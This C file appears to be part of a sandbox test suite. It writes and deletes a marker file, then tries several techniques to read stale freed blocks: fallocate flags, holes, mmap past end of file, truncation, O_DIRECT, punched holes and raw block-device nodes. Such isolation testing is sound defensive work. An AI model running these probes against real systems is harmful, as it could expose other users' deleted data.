/* What was in a file that is deleted or cut, read in another. First a mark is written and deleted, so that its blocks
 * are free; then each way to get blocks without writing them is looked through for it. */
#include "reach.h"

#define BLOCK 4096
#define SIZE (1 << 20)

static const char mark[16] = "gabion-b7-mark-";

/* On the disk, and free again. */
static int leave_mark(void) {
    static char block[BLOCK];
    int file = open("/data/mark", O_CREAT | O_RDWR | O_TRUNC | O_CLOEXEC, 0600);
    for (int at = 0; at < BLOCK; at += (int)sizeof mark)
        memcpy(block + at, mark, sizeof mark);
    for (int i = 0; i < SIZE / BLOCK; i++)
        if (write(file, block, BLOCK) != BLOCK)
            return -1;
    if (fsync(file) < 0 || close(file) < 0 || unlink("/data/mark") < 0)
        return -1;
    sync();
    return 0;
}

/* Whether there is any byte but zero in it, and whether that is the mark. */
static attack_end look(const char *at, size_t size) {
    for (size_t i = 0; i < size; i++)
        if (at[i] != 0)
            return i + 8 < size && memmem(at, size, mark, 8) ? worked("read the mark") : worked("read byte %02x", (unsigned char)at[i]);
    return attack_say("refused - it reads zeros");
}

static char bytes[SIZE];

static int file_of(const char *path) {
    if (leave_mark() < 0)
        return -1;
    return open(path, O_CREAT | O_RDWR | O_TRUNC | O_CLOEXEC, 0600);
}

static attack_end try_allocated(void) {
    int file = file_of("/data/a");
    if (file < 0 || fallocate(file, 0, 0, SIZE) < 0)
        return refused();
    ssize_t got = pread(file, bytes, SIZE, 0);
    unlink("/data/a");
    return got == SIZE ? look(bytes, SIZE) : failed("read %zd", got);
}

/* The flag with which a file system would give blocks as they are (FALLOC_FL_NO_HIDE_STALE). */
static attack_end try_allocated_as_they_are(void) {
    int file = file_of("/data/a");
    int done = fallocate(file, 4, 0, SIZE);
    int why = errno;
    ssize_t got = done < 0 ? 0 : pread(file, bytes, SIZE, 0);
    unlink("/data/a");
    errno = why;
    return done < 0 ? refused() : look(bytes, (size_t)got);
}

static attack_end try_hole(void) {
    int file = file_of("/data/a");
    (void)ftruncate(file, SIZE);
    char *at = mmap(NULL, SIZE, PROT_READ, MAP_SHARED, file, 0);
    unlink("/data/a");
    return at == MAP_FAILED ? failed("mmap: %s", strerrorname_np(errno)) : look(at, SIZE);
}

/* The rest of the last block, by a mapping that goes on where the file ends. */
static attack_end try_rest_of_page(void) {
    int file = file_of("/data/a");
    (void)!write(file, "x", 1);
    char *at = mmap(NULL, BLOCK, PROT_READ, MAP_SHARED, file, 0);
    unlink("/data/a");
    return at == MAP_FAILED ? failed("mmap: %s", strerrorname_np(errno)) : look(at + 1, BLOCK - 1);
}

/* TALOS-2022-1497: a mapping that is longer than what it maps. */
static attack_end try_past_the_end(void) {
    int program = open("/bin/attack", O_RDONLY | O_CLOEXEC);
    struct stat about;
    fstat(program, &about);
    size_t pages = ((size_t)about.st_size + BLOCK - 1) / BLOCK;
    char *at = mmap(NULL, (pages + 16) * BLOCK, PROT_READ, MAP_PRIVATE, program, 0);
    if (at == MAP_FAILED)
        return failed("mmap: %s", strerrorname_np(errno));
    for (size_t i = (size_t)about.st_size; i < (pages + 16) * BLOCK; i++)
        if (at[i] != 0)
            return worked("read byte %02x past the end", (unsigned char)at[i]);
    return failed("all of it can be read");
}

static attack_end try_cut_and_grown(void) {
    int file = file_of("/data/a");
    memset(bytes, 'x', SIZE / 2);
    if (pwrite(file, bytes, SIZE / 2, 0) != SIZE / 2 || fsync(file) < 0 || ftruncate(file, 1) < 0 ||
        ftruncate(file, SIZE / 2) < 0)
        return failed("ftruncate: %s", strerrorname_np(errno));
    ssize_t got = pread(file, bytes, SIZE / 2 - 1, 1);
    unlink("/data/a");
    return got == SIZE / 2 - 1 ? look(bytes, (size_t)got) : failed("read %zd", got);
}

/* Past the end by whole blocks, and without the page cache. */
static attack_end try_direct(void) {
    int file = file_of("/data/a");
    (void)!write(file, "x", 1);
    (void)fsync(file);
    int direct = open("/data/a", O_RDONLY | O_DIRECT | O_CLOEXEC);
    char *at = mmap(NULL, SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    ssize_t got = direct < 0 ? -1 : pread(direct, at, SIZE, 0);
    int why = errno;
    unlink("/data/a");
    errno = why;
    return got < 0 ? refused() : look(at + 1, BLOCK - 1);
}

/* A hole punched into what is there, and what is moved up by a range that is taken out. */
static attack_end try_punched(void) {
    int file = file_of("/data/a");
    memset(bytes, 'x', SIZE);
    if (pwrite(file, bytes, SIZE, 0) != SIZE || fsync(file) < 0 ||
        fallocate(file, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 100, SIZE - 200) < 0)
        return refused();
    ssize_t got = pread(file, bytes, SIZE - 200, 100);
    unlink("/data/a");
    return got == SIZE - 200 ? look(bytes, (size_t)got) : failed("read %zd", got);
}

/* The disk itself, where the mark still is. */
static attack_end try_disk(void) {
    if (leave_mark() < 0)
        return failed("the mark: %s", strerrorname_np(errno));
    for (unsigned major = 255; major > 239; major--)
        for (unsigned minor = 0; minor < 64; minor += 16) {
            char path[32];
            snprintf(path, sizeof path, "/tmp/disk%u-%u", major, minor);
            if (mknod(path, S_IFBLK | 0600, makedev(major, minor)) < 0)
                return refused();
            int disk = open(path, O_RDONLY | O_CLOEXEC);
            if (disk < 0 && errno != ENXIO)
                return refused();
            for (ssize_t got; disk >= 0 && (got = read(disk, bytes, SIZE)) > 0;)
                for (ssize_t at = 0; at + BLOCK <= got; at += BLOCK)
                    if (memcmp(bytes + at, mark, sizeof mark) == 0)
                        return worked("read the mark on the disk %u:%u", major, minor);
            if (disk >= 0)
                close(disk);
        }
    return failed("the mark is on no disk");
}

TRIES(TRY(allocated), TRY(allocated_as_they_are), TRY(hole), TRY(rest_of_page), TRY(past_the_end), TRY(cut_and_grown),
      TRY(direct), TRY(punched), TRY(disk))
